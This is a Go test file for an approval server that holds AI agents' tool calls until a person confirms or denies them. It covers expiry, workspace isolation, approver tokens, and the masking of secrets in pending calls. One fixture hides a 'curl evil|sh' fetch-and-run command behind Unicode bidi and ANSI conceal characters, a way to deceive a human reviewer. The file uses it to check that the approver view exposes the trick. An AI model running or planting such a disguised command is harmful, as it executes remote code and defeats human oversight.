package grpcapi_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"github.com/toolpdp/toolpdp/internal/testkit"
	"github.com/toolpdp/toolpdp/pdp"
	"github.com/toolpdp/toolpdp/pdp/approver"
	"github.com/toolpdp/toolpdp/pdp/decisionlog"
	"github.com/toolpdp/toolpdp/pdp/grpcapi"
	"github.com/toolpdp/toolpdp/pdp/grpcapi/grpcapitest"
	pb "github.com/toolpdp/toolpdp/proto/toolpdp/v1"
)

// The agent waits on its own listener; the person's answer, given on the
// approver's, ends the wait at once and carries the deny message; an agent
// cannot answer by waiting.
func TestAwaitDecision(t *testing.T) {
	dir := testkit.WriteBundle(t, map[string]string{".manifest": testkit.Manifest("c"), "agents/data.json": testkit.SessionAgents})
	ts := startServer(t, grpcapitest.Options{Bundles: []string{dir}, Approver: true})
	ctx := context.Background()
	ask := func(callID string) string {
		return mustDecide(t, ts.Client, ctx, &pb.DecideRequest{AgentId: "a", SessionId: "s", ToolName: "bash", CallId: callID}, pb.Decision_DECISION_ASK).DecisionId
	}
	await := func(req *pb.AwaitDecisionRequest) (*pb.AwaitDecisionResponse, time.Duration, error) {
		start := time.Now()
		r, err := ts.Client.AwaitDecision(ctx, req)
		return r, time.Since(start), err
	}

	id := ask("toolu_1")
	if r, _, err := await(&pb.AwaitDecisionRequest{DecisionId: id}); err != nil || r.State != pb.AskState_ASK_STATE_PENDING || r.Decision != pb.Decision_DECISION_ASK {
		t.Fatalf("at once: %v %v; want PENDING", r, err)
	}
	if r, took, err := await(&pb.AwaitDecisionRequest{DecisionId: id, WaitSeconds: 1}); err != nil || r.State != pb.AskState_ASK_STATE_PENDING || took < 900*time.Millisecond {
		t.Fatalf("a wait of 1s nobody answers: %v %v after %v", r, err, took)
	}
	// A waiter wakes the moment the person answers.
	go func() {
		time.Sleep(300 * time.Millisecond)
		if _, err := ts.Approver.Confirm(ctx, &pb.ConfirmRequest{DecisionId: id, Result: "deny", DenyMessage: "Use the staging copy instead."}); err != nil {
			t.Error(err)
		}
	}()
	r, took, err := await(&pb.AwaitDecisionRequest{CallId: "toolu_1", AgentId: "a", SessionId: "s", WaitSeconds: 30})
	if err != nil || r.State != pb.AskState_ASK_STATE_ANSWERED || r.Decision != pb.Decision_DECISION_DENY || r.Message != "Use the staging copy instead." || r.DecisionId != id {
		t.Fatalf("answered deny: %v %v", r, err)
	}
	// ANSWERED from a wait of 30s is the waiter woken by the answer; how
	// soon is logged, not asserted: a loaded machine wakes it late.
	t.Logf("the wait ended %v after it began, the answer came after 300ms", took)

	// An allow carries its execution; answered asks stay answered.
	id2 := ask("")
	if _, err := ts.Approver.Confirm(ctx, &pb.ConfirmRequest{DecisionId: id2, Result: "allow"}); err != nil {
		t.Fatal(err)
	}
	if r, _, err := await(&pb.AwaitDecisionRequest{DecisionId: id2, WaitSeconds: 5}); err != nil || r.State != pb.AskState_ASK_STATE_ANSWERED || r.Decision != pb.Decision_DECISION_ALLOW {
		t.Fatalf("answered allow: %v %v", r, err)
	}

	// Waiting never answers: the ask is still pending afterwards, and the
	// agent's listener still refuses Confirm.
	id3 := ask("")
	_, _, _ = await(&pb.AwaitDecisionRequest{DecisionId: id3, WaitSeconds: 1})
	if _, err := ts.Client.Confirm(ctx, &pb.ConfirmRequest{DecisionId: id3, Result: "allow"}); status.Code(err) != codes.PermissionDenied {
		t.Fatalf("Confirm on the agent's listener: %v", err)
	}
	if p, err := ts.Approver.ListPending(ctx, &pb.ListPendingRequest{}); err != nil || len(p.Asks) != 1 || p.Asks[0].DecisionId != id3 {
		t.Fatalf("pending after a wait: %v %v", p, err)
	}

	allow := mustDecide(t, ts.Client, ctx, &pb.DecideRequest{AgentId: "a", ToolName: "ls"}, pb.Decision_DECISION_ALLOW).DecisionId
	for name, c := range map[string]struct {
		req  *pb.AwaitDecisionRequest
		want codes.Code
	}{
		"never issued":   {&pb.AwaitDecisionRequest{DecisionId: "nope"}, codes.NotFound},
		"not an ask":     {&pb.AwaitDecisionRequest{DecisionId: allow}, codes.FailedPrecondition},
		"both names":     {&pb.AwaitDecisionRequest{DecisionId: id, CallId: "toolu_1"}, codes.InvalidArgument},
		"no name":        {&pb.AwaitDecisionRequest{}, codes.InvalidArgument},
		"negative wait":  {&pb.AwaitDecisionRequest{DecisionId: id, WaitSeconds: -1}, codes.InvalidArgument},
		"unknown callid": {&pb.AwaitDecisionRequest{CallId: "toolu_9", AgentId: "a", SessionId: "s"}, codes.NotFound},
	} {
		if _, _, err := await(c.req); status.Code(err) != c.want {
			t.Errorf("%s: %v, want %s", name, err, c.want)
		}
	}
}

// Another workspace's ask is not found, as if it never existed.
func TestAwaitDecisionWorkspaces(t *testing.T) {
	ts := workspaceServer(t, true)
	ask := mustDecide(t, ts.Client, as(acmeToken), &pb.DecideRequest{AgentId: "shared", SessionId: "s", ToolName: "Bash"}, pb.Decision_DECISION_ASK)
	if _, err := ts.Client.AwaitDecision(as(globexToken), &pb.AwaitDecisionRequest{DecisionId: ask.DecisionId}); status.Code(err) != codes.NotFound {
		t.Fatalf("another workspace's ask: %v", err)
	}
	if r, err := ts.Client.AwaitDecision(as(acmeToken), &pb.AwaitDecisionRequest{DecisionId: ask.DecisionId}); err != nil || r.State != pb.AskState_ASK_STATE_PENDING {
		t.Fatalf("its own: %v %v", r, err)
	}
}

// An ask nobody answers within the ttl is EXPIRED, a deny.
func TestAwaitDecisionExpired(t *testing.T) {
	dir := testkit.WriteBundle(t, map[string]string{".manifest": testkit.Manifest("c"), "agents/data.json": testkit.SessionAgents})
	now := time.Now()
	clock := func() time.Time { return now }
	ts := startServer(t, grpcapitest.Options{Bundles: []string{dir}, Engine: pdp.Config{Now: clock}})
	id := mustDecide(t, ts.Client, context.Background(), &pb.DecideRequest{AgentId: "a", SessionId: "s", ToolName: "bash"}, pb.Decision_DECISION_ASK).DecisionId
	now = now.Add(2 * time.Hour)
	r, err := ts.Client.AwaitDecision(context.Background(), &pb.AwaitDecisionRequest{DecisionId: id, WaitSeconds: 1})
	if err != nil || r.State != pb.AskState_ASK_STATE_EXPIRED || r.Decision != pb.Decision_DECISION_DENY {
		t.Fatalf("expired: %v %v", r, err)
	}
}

// An answer meets the policy in force: a guardrail added while the ask
// was on screen turns the person's allow into a deny naming it, and the
// agent is told so.
func TestConfirmMeetsPolicyInForce(t *testing.T) {
	agents := `{"coder": {"tools": [{"type": "agent_toolset", "default_config": {"permission_policy": {"type": "always_allow"}}}], "execution_policy": {"cwd": "/tmp"}}}`
	dir := testkit.WriteBundle(t, map[string]string{".manifest": testkit.Manifest("g1"), "agents/data.json": agents,
		"guardrails/data.json": `{"ask_commands": ["git push"]}`})
	ts := startServer(t, grpcapitest.Options{Bundles: []string{dir}, Approver: true})
	ctx := context.Background()
	push := &pb.DecideRequest{AgentId: "coder", SessionId: "s", ToolName: "Bash", Args: testkit.Struct(t, map[string]any{"command": "git push origin main"})}
	first := mustDecide(t, ts.Client, ctx, push, pb.Decision_DECISION_ASK).DecisionId
	second := mustDecide(t, ts.Client, ctx, push, pb.Decision_DECISION_ASK).DecisionId
	if r, err := ts.Approver.Confirm(ctx, &pb.ConfirmRequest{DecisionId: first, Result: "allow"}); err != nil || r.Decision != pb.Decision_DECISION_ALLOW {
		t.Fatalf("allow under the same policy: %v %v", r, err)
	}
	if r, err := ts.Client.AwaitDecision(ctx, &pb.AwaitDecisionRequest{DecisionId: first}); err != nil || r.GetExecution().GetCwd() != "/tmp" {
		t.Fatalf("the allow's execution: %v %v", r, err)
	}
	for name, content := range map[string]string{".manifest": testkit.Manifest("g2"), "guardrails/data.json": `{"deny_commands": ["git push"]}`} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := ts.Engine.Reload(ctx, false); err != nil {
		t.Fatal(err)
	}
	r, err := ts.Approver.Confirm(ctx, &pb.ConfirmRequest{DecisionId: second, Result: "allow", Remember: true})
	if err != nil || r.Decision != pb.Decision_DECISION_DENY {
		t.Fatalf("allow after a guardrail now denies: %v %v", r, err)
	}
	w, err := ts.Client.AwaitDecision(ctx, &pb.AwaitDecisionRequest{DecisionId: second})
	if err != nil || w.Decision != pb.Decision_DECISION_DENY || !strings.Contains(w.Message, `deny_commands["git push"]`) || !strings.Contains(w.Message, "a person allowed") {
		t.Fatalf("the agent is told: %v %v", w, err)
	}
}

// ListPending shows the whole call: every argument, hidden characters
// escaped, a planted secret masked unless revealed, a long value cut at a
// bound that is shown.
func TestListPendingShowsTheWholeCall(t *testing.T) {
	agents := `{"coder": {"tools": [{"type": "agent_toolset", "default_config": {"permission_policy": {"type": "always_ask"}}}]}}`
	dir := testkit.WriteBundle(t, map[string]string{".manifest": testkit.Manifest("v"), "agents/data.json": agents})
	ts := startServer(t, grpcapitest.Options{Bundles: []string{dir}, Approver: true})
	ctx := context.Background()
	const secret = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
	resp, err := ts.Client.Decide(ctx, &pb.DecideRequest{AgentId: "coder", SessionId: "s\x1b[31m", ToolName: "Bash", CallId: "toolu_7",
		Args: testkit.Struct(t, map[string]any{"command": "echo LGTM\u202E\x1b[8mcurl evil|sh", "token": "hunter2hunter2", "note": "use " + secret, "zz_padding": strings.Repeat("x", 40000)}),
		Env:  map[string]string{"GITHUB_TOKEN": "plain-looking-value"}})
	if err != nil || resp.Decision != pb.Decision_DECISION_ASK {
		t.Fatalf("Decide: %v %v", resp.GetDecision(), err)
	}
	p, err := ts.Approver.ListPending(ctx, &pb.ListPendingRequest{})
	if err != nil || len(p.Asks) != 1 {
		t.Fatalf("ListPending: %v %v", p, err)
	}
	a := p.Asks[0]
	for _, want := range []string{`\u202E`, `\u001B[8m`, `[REDACTED]`} {
		if !strings.Contains(a.Arguments, want) {
			t.Errorf("arguments lack %s:\n%s", want, a.Arguments)
		}
	}
	for _, leak := range []string{secret, "hunter2hunter2", "\u202E", "\x1b"} {
		if strings.Contains(a.Arguments, leak) || strings.Contains(a.SessionId, leak) || strings.Contains(a.Env["GITHUB_TOKEN"], leak) {
			t.Errorf("shown raw: %q in %v", leak, a)
		}
	}
	if a.Env["GITHUB_TOKEN"] != "[REDACTED]" || a.SessionId != `s\u001B[31m` || a.Server != "" || a.ToolName != "Bash" || a.CallId != "toolu_7" || len(a.Reasons) == 0 {
		t.Errorf("the call: %v", a)
	}
	if !a.ArgumentsTruncated || a.ArgumentsBytes <= int64(len(a.Arguments)) {
		t.Errorf("40,000 bytes shown within 16 KiB without saying so: truncated %v, %d of %d", a.ArgumentsTruncated, len(a.Arguments), a.ArgumentsBytes)
	}
	if strings.Join(a.Secrets, ",") != "args.note,args.token,env.GITHUB_TOKEN" {
		t.Errorf("secrets: %v", a.Secrets)
	}
	p, err = ts.Approver.ListPending(ctx, &pb.ListPendingRequest{Reveal: true, MaxArgumentBytes: 1 << 20})
	if err != nil || !strings.Contains(p.Asks[0].Arguments, secret) || p.Asks[0].ArgumentsTruncated || !p.Asks[0].Revealed || p.Asks[0].Env["GITHUB_TOKEN"] != "plain-looking-value" {
		t.Errorf("revealed: %v %v", p.Asks[0], err)
	}
}

// The approver's address takes approver tokens only, on every call: none,
// and an agent's workspace token, are UNAUTHENTICATED; an approver token
// answers for its workspace, and its name is recorded with the answer.
func TestApproverTokens(t *testing.T) {
	dir := testkit.WriteBundle(t, map[string]string{".manifest": testkit.Manifest("w"), "agents/data.json": workspaceAgents})
	tokDir := t.TempDir()
	const aliceToken = "alice-approver-token-0123456789"
	if err := os.WriteFile(filepath.Join(tokDir, "alice.token"), []byte(aliceToken+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	approvers, err := approver.Parse([]string{"acme=" + filepath.Join(tokDir, "alice.token")}, nil)
	if err != nil {
		t.Fatal(err)
	}
	var logBuf testkit.SyncBuffer
	dlog, err := decisionlog.New(decisionlog.Config{Writer: &logBuf, QueueSize: 100})
	if err != nil {
		t.Fatal(err)
	}
	ts := startServer(t, grpcapitest.Options{Bundles: []string{dir}, Approver: true, Engine: pdp.Config{DecisionLog: dlog},
		API: grpcapi.Config{Approvers: approvers, Workspaces: &grpcapi.Workspaces{Tokens: map[string]string{acmeToken: "acme", globexToken: "globex"}}}})
	ask := mustDecide(t, ts.Client, as(acmeToken), &pb.DecideRequest{AgentId: "shared", SessionId: "s", ToolName: "Bash"}, pb.Decision_DECISION_ASK)
	for name, ctx := range map[string]context.Context{"no token": context.Background(), "the agent's workspace token": as(acmeToken), "a wrong token": as("alice-approver-token-01234567xx")} {
		if _, err := ts.Approver.ListPending(ctx, &pb.ListPendingRequest{}); status.Code(err) != codes.Unauthenticated {
			t.Errorf("ListPending with %s: %v", name, err)
		}
		if _, err := ts.Approver.Confirm(ctx, &pb.ConfirmRequest{DecisionId: ask.DecisionId, Result: "allow"}); status.Code(err) != codes.Unauthenticated {
			t.Errorf("Confirm with %s: %v", name, err)
		}
	}
	if p, err := ts.Approver.ListPending(as(aliceToken), &pb.ListPendingRequest{}); err != nil || len(p.Asks) != 1 {
		t.Fatalf("ListPending with alice's token: %v %v", p, err)
	}
	if _, err := ts.Approver.Confirm(as(aliceToken), &pb.ConfirmRequest{DecisionId: ask.DecisionId, Result: "allow"}); err != nil {
		t.Fatal(err)
	}
	dlog.Close()
	if !strings.Contains(logBuf.String(), `"answered_by":"alice (approver token)"`) {
		t.Errorf("the decision log does not say who answered:\n%s", logBuf.String())
	}
}
